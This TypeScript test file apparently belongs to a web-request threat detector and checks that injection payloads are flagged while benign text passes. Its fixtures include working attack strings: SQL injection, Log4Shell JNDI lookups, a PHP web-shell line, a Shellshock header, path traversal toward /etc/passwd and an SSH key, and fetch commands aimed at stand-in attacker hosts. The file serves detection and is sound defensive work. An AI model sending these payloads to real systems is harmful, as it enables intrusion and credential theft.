import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { evaluate } from '../../../bench/detector-eval';
import { automationFingerprint, scannerFingerprint } from '../../../lambdas/engine/detectors/automation';
import { effort, MAX_INSPECTED_LENGTH } from '../../../lambdas/engine/detectors/decode';
import {
  findInjections,
  findInjectionsIn,
  type InputPart,
  injectionsInPart,
} from '../../../lambdas/engine/detectors/malicious-input';
import { automation } from '../../../lambdas/engine/signals';

const value = (v: string): InputPart => ({ kind: 'query-value', name: 'q', value: v });
const header = (v: string): InputPart => ({ kind: 'header', name: 'user-agent', value: v });

describe('malicious input: what the issue names', () => {
  it.each([
    ["1' OR '1'='1", 'sqli'],
    ['SELECT * FROM t GROUP BY a HAVING a = 8', 'sqli'],
    ['cat /etc/pa[s]swd', 'traversal'],
    ['for %a in (a,b,c) do cmd', 'command'],
    ['../../home/u/.ssh/id_rsa', 'traversal'],
    ['<x onend=alert(1)>', 'xss'],
    ['&#36;&#123;jndi:ldap://x/a}', 'jndi'],
    ['${${lower:j}${::-n}di:ldap://x/a}', 'jndi'],
    ['%24%7Bjndi%3Aldap%3A%2F%2Fx%7D', 'jndi'],
    ['{{7*7}}', 'template'],
    ['__proto__[admin]', 'prototype'],
    ['constructor[prototype][admin]', 'prototype'],
    ['%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', 'traversal'],
    ['http://203.0.113.9/shell.txt?', 'rfi'],
    ['<?php system($_GET["c"]); ?>', 'php'],
  ])('%s is %s', (payload, kind) => {
    expect(findInjectionsIn([value(payload)])).toContain(kind);
  });

  it.each([
    'javascript:;',
    'https://shop.example/p?u=1&ping',
    'https://login.example/cb?state=x&id=42&next=/home',
    'time.sleep(5)',
    'shutil.rmtree(path, ignore_errors=False, onerror=None)',
    "O'Reilly and sons",
    '"SWEATER DRESS" AND "CHRISTMAS"',
  ])('%s is an ordinary value', (text) => {
    expect(findInjectionsIn([value(text)])).toEqual([]);
  });

  it('reads a bare word that is also data (`?orderBy=id`, a JSON key `type`) as data, chained or argued as a command', () => {
    const name = (text: string) => ({ kind: 'query-name' as const, name: '', value: text });
    for (const word of ['id', 'type', 'dir', 'cat', 'ping', 'ls', 'nc']) {
      expect(findInjectionsIn([name(word), value(word)])).toEqual([]);
    }
    expect(findInjections(['id;'])).toContain('command');
    expect(findInjections(['ping -c 3 attacker.example'])).toContain('command');
    expect(findInjections(['whoami'])).toContain('command');
  });

  it.each([
    ['$cb($_GET)', 'php'],
    ["${'x'}(2)", 'php'],
    ['$_x1 /* c */ (1)', 'php'],
    ['"assert"(ls)', 'php'],
    ['[exec][0](id)', 'php'],
    ['eval /* c */ (x)', 'php'],
    ['{php}phpinfo(){/php}', 'php'],
    ['for /f "tokens=1" %i in (list.txt) do type %i', 'command'],
    ['if /i "%a%"=="b" del x', 'command'],
    ['IF %ERRORLEVEL% GEQ 1 exit', 'command'],
    ['python3 -c "import os"', 'command'],
    ["node -e 'require(1)'", 'command'],
    ['wget http://evil.example/x.sh', 'command'],
    ['if "%~1"=="" goto end', 'command'],
    ['0/**/union/*!50000select*/1', 'sqli'],
    ['1 union/* x */select 2', 'sqli'],
    ['/???/??????', 'traversal'],
    ['/etc/pa*', 'traversal'],
  ])('%s is %s (call and batch grammar)', (text, kind) => {
    expect(findInjections([text])).toContain(kind);
  });

  it.each([
    'Total: $5 (approx)',
    'price $x (est.)',
    '"Hello" (said she)',
    'jQuery $(document)',
    'if you == me then',
    'if a == b',
    'if not sure, ask',
    'wget vs curl',
    'node -v',
    'for i in (1,2) do',
    '*/*',
    'x/*',
    'text/*; q=0.8',
    '/** docs */ function f() {}',
  ])('%s is prose or a harmless snippet', (text) => {
    expect(findInjections([text])).toEqual([]);
  });

  it('never throws on a glob class the shell cannot match (`[z-a]`), and still reads the rest', () => {
    expect(() => findInjections([';c[z-a]t', '\\[?--]'])).not.toThrow();
    expect(findInjections([';c[z-a]t /etc/passwd'])).toContain('traversal');
  });

  it('judges a user agent as a header: `; id)` and `id-id;` are locales, not commands', () => {
    const agents = [
      'Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.14912/870; U; id) Presto/2.4.15',
      'Mozilla/5.0 (Linux; U; Android 4.0.4; id-id; GT-I9300 Build/IMM76D) AppleWebKit/534.30 Mobile Safari/534.30',
    ];
    for (const ua of agents) expect(findInjectionsIn([header(ua)])).toEqual([]);
    // The same text as a parameter value reads as a command after `;`.
    expect(findInjections(['x; id'])).toContain('command');
    expect(findInjectionsIn([header('() { :; }; /bin/bash -c id')])).toContain('command');
  });

  it('names scanners on every route; other automation stays browser-facing only', () => {
    expect(scannerFingerprint({ 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' })?.scanner).toBe(
      true,
    );
    expect(
      scannerFingerprint({ 'user-agent': 'Mastodon/4.5.11 (http.rb/5.3.1; +https://veganism.social/)' }),
    ).toBe(undefined);
    expect(
      automationFingerprint({ 'user-agent': 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)' })?.scanner,
    ).toBe(true);
    const settings = { browserFacing: false, weights: { automation: 70 } } as never;
    const features = (f: unknown) => ({ automation: f }) as never;
    const view = { authenticated: false } as never;
    expect(
      automation(view, features(scannerFingerprint({ 'user-agent': 'nuclei' })), settings)?.contribution,
    ).toBe(70);
    expect(
      automation(view, features({ strength: 1, reason: 'tool user agent: curl' }), settings),
    ).toBeUndefined();
  });
});

describe('malicious input: bounded work on hostile input', () => {
  const hostile = fc.oneof(
    fc.string({
      unit: fc.constantFrom(
        '$',
        '{',
        '}',
        '\\',
        'x',
        '%',
        '2',
        '5',
        '<',
        "'",
        '"',
        ';',
        '|',
        '/',
        '.',
        'a',
        ' ',
      ),
      maxLength: 6000,
    }),
    fc.nat({ max: 2000 }).map((n) => `${'${'.repeat(n)}jndi${'}'.repeat(n)}`),
    fc.nat({ max: 2000 }).map((n) => `${'%25'.repeat(n)}2e`),
    fc.nat({ max: 1500 }).map((n) => `<a ${'onx='.repeat(n)}`),
    fc.nat({ max: 1500 }).map((n) => `${"' or ".repeat(n)}1=1`),
    fc.nat({ max: 1500 }).map((n) => `${'../'.repeat(n)}etc/passwd`),
    fc.nat({ max: 1500 }).map((n) => `{{${'('.repeat(n)}7*7`),
  );

  it('visits a bounded multiple of the capped input, whatever the nesting', () => {
    fc.assert(
      fc.property(
        hostile,
        fc.constantFrom<InputPart['kind']>('path', 'query-value', 'header'),
        (text, kind) => {
          const before = effort.units;
          injectionsInPart({ kind, name: 'q', value: `${text}#${Math.random()}` });
          const visited = effort.units - before;
          // Every loop is over the (decoded, capped) text; decoding rounds are bounded: 3 rounds × 2 readings.
          expect(visited).toBeLessThanOrEqual(40 * Math.min(text.length + 32, MAX_INSPECTED_LENGTH) + 2000);
        },
      ),
      { numRuns: 150 },
    );
  });
});

describe('malicious input: public corpora (reduced sample of npm run detector-eval)', () => {
  it('meets the targets: ≥ 70 % overall, ≥ 40 % per family, ≤ 0.2 % benign, no browser user agent', () => {
    const r = evaluate(2);
    expect(r.overall.rate).toBeGreaterThanOrEqual(0.7);
    for (const [family, rate] of Object.entries(r.families)) {
      if (rate.total >= 5) expect({ family, rate: rate.rate >= 0.4 }).toEqual({ family, rate: true });
    }
    expect(r.benignOverall.rate).toBeLessThanOrEqual(0.002);
    expect(r.benign['browser user agents']!.hit).toBe(0);
    expect(r.benign['browser user agents']!.total).toBeGreaterThan(300);
  });
});
